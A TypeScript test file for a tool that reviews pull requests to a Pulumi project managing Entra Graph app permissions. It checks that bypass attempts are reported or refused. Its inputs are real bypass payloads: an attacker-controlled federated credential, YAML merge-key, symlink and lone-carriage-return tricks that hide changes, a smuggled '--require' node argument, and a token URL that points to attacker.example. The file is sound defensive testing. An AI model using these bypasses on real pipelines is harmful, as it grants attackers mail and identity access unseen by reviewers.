// Issue 24's review bypasses, each as a pull request in a real git repository: every route by
// which a data change makes `pulumi up` grant more is either reported as a gain (exit 3) or
// refused (exit 1), never "no privilege gained". What Pulumi does with each input is checked
// against Pulumi's own Go loader by `npm run test:loader-parity` (tests/loaderParity/).
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { stringify } from "yaml";
import { capturedIo } from "../tools/commands/commandIo";
import { EXIT, main } from "../tools/commands/review/cli";
import { PROJECT_YAML } from "./support/projectFolder";

const NOW = "2026-11-22";
const OWNER = "2b3c4d5e-6f70-4812-9a3b-4c5d6e7f8091";
const mailAlerts = {
  displayName: "Mail Alerts",
  permissions: { "Microsoft Graph": { application: ["Mail.Send"] } },
};
const prodStack = stringify({ config: { "entra-graph-apps:apps": { "mail-alerts": mailAlerts } } });

async function review(dir: string) {
  const io = capturedIo({ cwd: dir, env: { PATH: process.env.PATH, HOME: process.env.HOME } });
  const code = await main(
    ["node", "review", "--all-stacks", "--base", "main", "--now", NOW, "--format", "text"],
    io,
  );
  return { code, stdout: io.out.join(""), stderr: io.err.join("") };
}

/** main holds Pulumi.yaml and Pulumi.prod.yaml (and `extra` files); a branch is checked out. */
function repository(extra: Record<string, string> = {}): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "review-bypass-"));
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, stdio: "pipe" });
  git("init", "-q", "-b", "main");
  git("config", "user.email", "test@example.com");
  git("config", "user.name", "Test");
  write(dir, "Pulumi.yaml", PROJECT_YAML);
  write(dir, "Pulumi.prod.yaml", prodStack);
  for (const [file, text] of Object.entries(extra)) write(dir, file, text);
  git("add", ".");
  git("commit", "-q", "-m", "base");
  git("checkout", "-q", "-b", "feature");
  return dir;
}

function write(dir: string, file: string, text: string): void {
  fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
  fs.writeFileSync(path.join(dir, file), text);
}

const dirs: string[] = [];
afterAll(() => dirs.forEach((dir) => fs.rmSync(dir, { recursive: true, force: true })));
function pr(change: (dir: string) => void, extra?: Record<string, string>): string {
  const dir = repository(extra);
  dirs.push(dir);
  change(dir);
  return dir;
}

describe("a pull request that changes what pulumi up deploys through data", () => {
  it("is reported when an un-namespaced defaults key gives every app an attacker's federated credential (finding 1)", async () => {
    const dir = pr((d) =>
      fs.appendFileSync(
        path.join(d, "Pulumi.prod.yaml"),
        "  defaults:\n    federatedCredentials:\n      ci:\n        github: { repository: attacker/pwn, branch: main }\n",
      ),
    );
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout).toContain("! federated credential added: ci");
    expect(stdout).toContain("repo:attacker/pwn:ref:refs/heads/main");
  });

  it("is refused when a YAML merge key at the config level would add an owner (finding 2)", async () => {
    const dir = pr((d) =>
      fs.appendFileSync(
        path.join(d, "Pulumi.prod.yaml"),
        `  <<: {"entra-graph-apps:defaults": {owners: ["${OWNER}"]}}\n`,
      ),
    );
    const { code, stderr } = await review(dir);
    expect(code).toBe(EXIT.invalid);
    expect(stderr).toContain(
      "  - Pulumi.prod.yaml (working tree): config uses a YAML merge key (<<); write the keys out, or share settings with entra-graph-apps:defaults\n",
    );
  });

  it("is reported when Pulumi.yaml moves the stack files to a stackConfigDir holding a new prod stack (finding 3a)", async () => {
    const dir = pr((d) => {
      write(d, "Pulumi.yaml", `${PROJECT_YAML}stackConfigDir: stacks\n`);
      const widened = {
        ...mailAlerts,
        permissions: { "Microsoft Graph": { application: ["Mail.ReadWrite"] } },
      };
      write(
        d,
        "stacks/Pulumi.prod.yaml",
        stringify({ config: { "entra-graph-apps:apps": { "mail-alerts": widened } } }),
      );
    });
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout).toMatch(/^stacks\/Pulumi\.prod\.yaml compared with main\n  PRIVILEGE GAINED\n/);
    expect(stdout).toContain(
      "  + Microsoft Graph Mail.ReadWrite (application, 3 high, consent granted)",
    );
  });

  it("is reported when project-level config in Pulumi.yaml adds an owner to every app (finding 3b)", async () => {
    const dir = pr((d) =>
      write(
        d,
        "Pulumi.yaml",
        `${PROJECT_YAML}config:\n  entra-graph-apps:defaults:\n    value:\n      owners: ["${OWNER}"]\n`,
      ),
    );
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout).toContain(`! owner added: ${OWNER}`);
  });

  it("is refused when the stack file is a symbolic link, on either side (finding 4)", async () => {
    // Step 1 (already merged): Pulumi.prod.yaml became a link; step 2 edits its target.
    const dir = pr(
      (d) => write(d, "config/prod.yaml", prodStack.replace("Mail.Send", "Mail.ReadWrite")),
      { "config/prod.yaml": prodStack },
    );
    fs.rmSync(path.join(dir, "Pulumi.prod.yaml"));
    fs.symlinkSync("config/prod.yaml", path.join(dir, "Pulumi.prod.yaml"));
    const { code, stderr } = await review(dir);
    expect(code).toBe(EXIT.invalid);
    expect(stderr).toContain(
      "  - Pulumi.prod.yaml (working tree) is a symbolic link; a stack file is read only as a regular file, so that review sees every change to it (replace the link with the file)\n",
    );
  });

  it("is reported when an app named secure holds Mail.ReadWrite and a federated credential (finding 5)", async () => {
    const dir = pr((d) =>
      write(
        d,
        "Pulumi.prod.yaml",
        stringify({
          config: {
            "entra-graph-apps:apps": {
              "mail-alerts": mailAlerts,
              secure: {
                displayName: "Secure",
                permissions: { "Microsoft Graph": { application: ["Mail.ReadWrite"] } },
                federatedCredentials: {
                  ci: { github: { repository: "attacker/pwn", branch: "main" } },
                },
              },
            },
          },
        }),
      ),
    );
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout).toMatch(/secure.*\(added\)/);
    expect(stdout).toContain(
      "  + Microsoft Graph Mail.ReadWrite (application, 3 high, consent granted)",
    );
  });

  it("reads rotateEveryDays: 010 as Pulumi does (8 days), and refuses adminConsent: off as the text it is", async () => {
    const octal = pr((d) =>
      fs.appendFileSync(
        path.join(d, "Pulumi.prod.yaml"),
        "  defaults:\n    clientSecret: { rotateEveryDays: 010 }\n",
      ),
    );
    const rotation = await review(octal);
    expect(rotation.stdout).toContain("rotates every 8 days");
    const off = pr((d) =>
      fs.writeFileSync(
        path.join(d, "Pulumi.prod.yaml"),
        prodStack.replace(
          "displayName: Mail Alerts",
          "displayName: Mail Alerts\n      adminConsent: off",
        ),
      ),
    );
    const consent = await review(off);
    expect(consent.code).toBe(EXIT.invalid);
    expect(consent.stderr).toContain('apps.mail-alerts.adminConsent = "off"');
  });

  it("applies entra-graph-apps:config:defaults as Pulumi does (the old config: form)", async () => {
    const dir = pr((d) =>
      fs.appendFileSync(
        path.join(d, "Pulumi.prod.yaml"),
        `  entra-graph-apps:config:defaults:\n    owners: ["${OWNER}"]\n`,
      ),
    );
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout).toContain(`! owner added: ${OWNER}`);
  });

  it("reviews every app as new when the base cannot be read as Pulumi reads it, so the fix is never blocked", async () => {
    const merged = `${prodStack}  <<: {"entra-graph-apps:defaults": {owners: ["${OWNER}"]}}\n`;
    const dir = pr((d) => write(d, "Pulumi.prod.yaml", prodStack), { "Pulumi.prod.yaml": merged });
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout.split("\n").slice(0, 4)).toEqual([
      "Pulumi.prod.yaml compared with main, where it cannot be read as Pulumi reads it: every app is reviewed as new",
      "  PRIVILEGE GAINED",
      "",
      'mail-alerts  "Mail Alerts"  (added)',
    ]);
  });

  it("is refused when a lone carriage return would hide a line from review but not from Pulumi (red team)", async () => {
    const hidden = `    # rotation reviewed\r    federatedCredentials: {ci: {github: {repository: attacker/pwn, branch: main}}}\n`;
    const stack = pr((d) =>
      fs.appendFileSync(path.join(d, "Pulumi.prod.yaml"), `  defaults:\n${hidden}`),
    );
    const refused = await review(stack);
    expect(refused.code).toBe(EXIT.invalid);
    expect(refused.stderr).toContain(
      "holds a carriage return not followed by a line feed, which Pulumi's YAML reader takes for a line break",
    );
    const project = pr((d) =>
      write(
        d,
        "Pulumi.yaml",
        PROJECT_YAML.replace(
          "runtime: nodejs",
          "runtime: nodejs # x\r  options: {nodeargs: --require ./certs/ca.pem}",
        ),
      ),
    );
    expect((await review(project)).code).not.toBe(EXIT.ok);
  });

  it("is reported when provider config outside entra-graph-apps changes where pulumi up signs in (red team)", async () => {
    const dir = pr((d) =>
      fs.appendFileSync(
        path.join(d, "Pulumi.prod.yaml"),
        "  azuread:oidcRequestUrl: https://attacker.example/token\n  azuread:clientSecret: {secure: v1:abc}\n",
      ),
    );
    const { code, stdout } = await review(dir);
    expect(code).toBe(EXIT.privilegeGained);
    expect(stdout).toContain(
      [
        "Config outside entra-graph-apps (provider config decides where and as whom pulumi up signs in: needs a human review)",
        "  ! azuread:clientSecret added = [secret]",
        '  ! azuread:oidcRequestUrl added = "https://attacker.example/token"',
      ].join("\n"),
    );
  });

  it("is refused when a Pulumi.json would be read before Pulumi.yaml", async () => {
    const dir = pr((d) =>
      write(d, "Pulumi.json", JSON.stringify({ name: "entra-graph-apps", runtime: "nodejs" })),
    );
    const { code, stderr } = await review(dir);
    expect(code).toBe(EXIT.invalid);
    expect(stderr).toContain("Pulumi.json (working tree) exists beside Pulumi.yaml");
  });
});
